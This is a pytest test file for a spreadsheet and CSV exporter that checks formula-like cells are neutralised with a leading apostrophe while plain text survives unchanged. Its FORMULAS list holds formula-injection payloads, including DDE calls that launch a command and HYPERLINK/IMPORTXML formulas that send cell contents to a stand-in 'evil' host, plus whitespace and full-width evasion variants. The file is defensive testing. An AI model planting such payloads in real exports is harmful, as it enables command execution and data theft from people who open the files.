"""Tables for spreadsheets, opened again: what went in comes out, and nothing calculates."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from documents.tables import LONGEST_TEXT, UNFIT, Cell, Table, as_csv, as_xlsx, harmless

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"here")',
    '=IMPORTXML(CONCAT("http://evil/?v=", A1), "//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@x",
    "\0=1+1",
    "\x01=1+1",
    " =1+1",
    "\u3000＝1+1",
    "\u00a0+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''-1",
    "=",
    "-",
    "\t",
]
PLAIN = [
    "Air-surveillance radars",
    "防空レーダー 3基",
    'a "quoted", word; and\nanother line',
    "a=b",
    "'tis",
    "",
    "1E5",
    "00123",
    "2026-11-22",
    "TRUE",
    "#REF!",
    "http://example.jp/",
    "mailto:a@example.jp",
    "{=1+1}",
    "髙﨑𠮷 ①～〜−",
    "👩‍👩‍👧‍👦",
    "_x0041_",
    "x" * LONGEST_TEXT,
]


def without_unfit(text: str) -> str:
    return UNFIT.sub("", text)


def table(*texts: Cell) -> Table:
    return Table("List", ["Text"], [[text] for text in texts])


def cells_of(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row]


def text_of(cell: Any) -> str:
    """As a spreadsheet shows it: the library leaves the escapes of the format (`_x000D_`) alone."""
    return unescape(cell.value or "")


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_text_with_an_apostrophe(text: str) -> None:
    (cell,) = cells_of(as_xlsx(table(text)))
    _head, (written,) = rows_of(as_csv(table(text)))

    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert text_of(cell) == f"'{without_unfit(text)}"
    assert written == f"'{without_unfit(text)}"


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_comes_back_as_it_was(text: str) -> None:
    (cell,) = cells_of(as_xlsx(table(text)))
    _head, (written,) = rows_of(as_csv(table(text)))

    assert (text_of(cell), cell.hyperlink, written) == (text, None, text)


def test_headings_and_names_of_sheets_are_harmless_too() -> None:
    data = as_xlsx(Table("=cmd[1]: a/b " + "x" * 40, ["=1+1"], []))
    book = openpyxl.load_workbook(io.BytesIO(data))

    assert book.worksheets[0]["A1"].value == "'=1+1"
    assert len(book.sheetnames[0]) <= 31
    assert as_csv(Table("x", ["=1+1"], [])) == b'\xef\xbb\xbf"\'=1+1"\r\n'


def test_csv_is_the_rfc_s_with_a_byte_order_mark_and_every_cell_quoted() -> None:
    at = datetime(2026, 11, 22, 1, 30, tzinfo=UTC)
    row: list[Cell] = ["品目", Decimal("-5160000.50"), 3, date(2026, 4, 1), at, None]

    data = as_csv(Table("List", list("abcdef"), [row]))

    assert data.decode() == (
        '\ufeff"a","b","c","d","e","f"\r\n'
        '"品目","-5160000.50","3","2026-04-01","2026-11-22 10:30",""\r\n'
    )


def test_sheet_keeps_numbers_days_and_instants() -> None:
    at = datetime(2026, 11, 22, 1, 30, tzinfo=UTC)
    row: list[Cell] = [Decimal("-5160000.50"), Decimal(5160000), 3, date(2026, 4, 1), at, None]

    cells = cells_of(as_xlsx(Table("List", list("abcdef"), [row])))

    assert [cell.value for cell in cells] == [
        -5160000.5,
        5160000,
        3,
        datetime(2026, 4, 1),  # noqa: DTZ001 - a sheet has no zones
        datetime(2026, 11, 22, 10, 30),  # noqa: DTZ001 - the agency's clock
        None,
    ]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "d", "n"]
    assert [cell.number_format for cell in cells[:4]] == [
        "#,##0.00",
        "#,##0",
        "#,##0",
        "yyyy-mm-dd",
    ]


def test_number_that_a_sheet_would_shorten_is_text() -> None:
    (cell,) = cells_of(as_xlsx(table(Decimal("1234567890123456.78"))))

    assert (cell.data_type, cell.value) == ("s", "1234567890123456.78")


def test_headings_stay_in_sight_and_columns_are_as_wide_as_their_cells() -> None:
    data = as_xlsx(Table("List", ["a", "b"], [["防空レーダー", "x" * 500]]))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]

    widths = [round(sheet.column_dimensions[name].width) for name in "AB"]
    assert (sheet.freeze_panes, sheet["A1"].font.bold) == ("A2", True)
    assert 14 <= widths[0] <= 15
    assert 60 <= widths[1] <= 61


def test_text_too_long_for_a_cell_is_not_cut() -> None:
    with pytest.raises(ValueError, match="does not fit"):
        as_xlsx(table("x" * (LONGEST_TEXT + 1)))


def test_apostrophe_goes_only_before_what_could_act() -> None:
    assert [harmless(text) for text in ("a", "-", "5", "−1")] == ["a", "'-", "5", "−1"]
